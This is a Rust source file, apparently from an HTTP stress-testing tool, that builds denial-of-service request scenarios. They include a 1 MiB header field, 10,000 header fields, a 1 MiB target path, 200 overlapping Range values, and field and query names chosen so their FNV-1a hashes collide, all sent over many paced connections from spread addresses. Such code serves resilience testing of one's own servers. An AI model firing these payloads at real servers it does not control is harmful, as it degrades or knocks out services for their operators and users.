//! A17, A18 and A20: header sections that are large, long, expensive, or made to collide.

use super::flood::paced;
use super::{EACH, Needs, Scenario};
use crate::addresses::Spread;
use crate::attack::{Attack, hold};
use crate::h1::{Reader, head, unfinished};
use std::fmt::Write as _;
use std::sync::Arc;

/// Bytes of the one field of `huge-header`.
const HUGE_BYTES: usize = 1 << 20;
/// Fields of `many-fields`.
const FIELDS: usize = 10_000;
/// Ranges of one request.
const RANGES: usize = 200;
/// Names that collide, in each request; under the usual cap of 100 fields.
const COLLISIONS: usize = 80;
/// Low bits in which their hashes agree: a table of this many places puts them into one.
const COLLIDING_BITS: u32 = 12;

const fn scenario(
    name: &'static str,
    vector: &'static str,
    what: &'static str,
    run: fn(Arc<Attack>) -> super::Attacking,
) -> Scenario {
    Scenario {
        name,
        vector,
        what,
        needs: Needs::H1,
        connections: 50,
        rate: 200,
        addresses: EACH,
        spread: Spread::Wide,
        run,
    }
}

/// The scenarios of this family.
pub(super) const ALL: &[Scenario] = &[
    scenario("huge-header", "A17", "one field of 1 MiB", |attack| {
        Box::pin(hold(attack, |attack, n| large(attack, n, huge)))
    }),
    scenario("many-fields", "A17", "10,000 fields", |attack| {
        Box::pin(hold(attack, |attack, n| large(attack, n, many)))
    }),
    scenario("huge-target", "A17", "a target of 1 MiB", |attack| {
        Box::pin(hold(attack, |attack, n| large(attack, n, target)))
    }),
    scenario("range-abuse", "A18", "200 overlapping ranges in each request", |attack| {
        Box::pin(hold(attack, ranges))
    }),
    scenario(
        "hash-collision",
        "A20",
        "names of fields and of query keys that collide in FNV-1a",
        |a| Box::pin(hold(a, collisions)),
    ),
];

/// Sends one large request on each connection, while it reads the response.
async fn large(attack: Arc<Attack>, n: usize, make: fn(&Attack) -> Vec<u8>) {
    let Some(mut wire) = attack.open(n).await else { return };
    let mut back = Vec::new();
    attack.tally.requests.one();
    let sent = wire.exchange(&make(&attack), &mut |bytes| back.extend_from_slice(bytes)).await;
    if sent.is_err() {
        attack.tally.event("cut off while sending");
    }
    let mut came = tokio::io::AsyncReadExt::chain(back.as_slice(), &mut wire);
    match Reader::new().answer(&mut came, false).await {
        Ok(answer) => attack.tally.answer(answer.status),
        Err(_) => attack.tally.event("no answer"),
    }
}

fn huge(attack: &Attack) -> Vec<u8> {
    let field = format!("X-Huge: {}\r\n", "a".repeat(HUGE_BYTES));
    head("GET", attack.path_or("/"), attack.host(), &field).into_bytes()
}

fn many(attack: &Attack) -> Vec<u8> {
    let mut out = unfinished(attack.path_or("/"), attack.host());
    for n in 0..FIELDS {
        let _written: std::fmt::Result = write!(out, "X-{n}: a\r\n");
    }
    out.push_str("\r\n");
    out.into_bytes()
}

fn target(attack: &Attack) -> Vec<u8> {
    let path = format!("/{}", "a".repeat(HUGE_BYTES));
    head("GET", &path, attack.host(), "").into_bytes()
}

async fn ranges(attack: Arc<Attack>, n: usize) {
    let all: Vec<String> = (0..RANGES).map(|n| format!("{n}-")).collect();
    let field = format!("Range: bytes={}\r\n", all.join(","));
    paced(attack, n, move |attack: &Attack, _| {
        head("GET", attack.path_or("/__large/100000"), attack.host(), &field).into_bytes()
    })
    .await;
}

async fn collisions(attack: Arc<Attack>, n: usize) {
    let names = colliding(COLLISIONS);
    let mut fields = String::new();
    for name in &names {
        let _written: std::fmt::Result = write!(fields, "{name}: a\r\n");
    }
    let path = format!("/?{}=1", names.join("=1&"));
    paced(attack, n, move |attack: &Attack, _| {
        head("GET", &path, attack.host(), &fields).into_bytes()
    })
    .await;
}

fn fnv(text: &[u8]) -> u64 {
    text.iter().fold(0xcbf2_9ce4_8422_2325, |hash, byte| {
        (hash ^ u64::from(*byte)).wrapping_mul(0x0000_0100_0000_01b3)
    })
}

/// Returns the names whose FNV-1a hashes agree in their low bits.
fn colliding(count: usize) -> Vec<String> {
    let mask = (1u64 << COLLIDING_BITS).wrapping_sub(1);
    let names = (0u64..).map(|n| format!("x-{n:x}"));
    names.filter(|name| fnv(name.as_bytes()) & mask == 0).take(count).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_names_collide_and_differ() {
        // Published test vector of FNV-1a, 64 bits.
        assert_eq!(fnv(b"foobar"), 0x8594_4171_f739_67e8);
        let names = colliding(COLLISIONS);
        assert!(names.iter().all(|name| fnv(name.as_bytes()) & 0xfff == 0));
        let different: std::collections::HashSet<_> = names.iter().collect();
        assert_eq!(different.len(), COLLISIONS);
    }
}
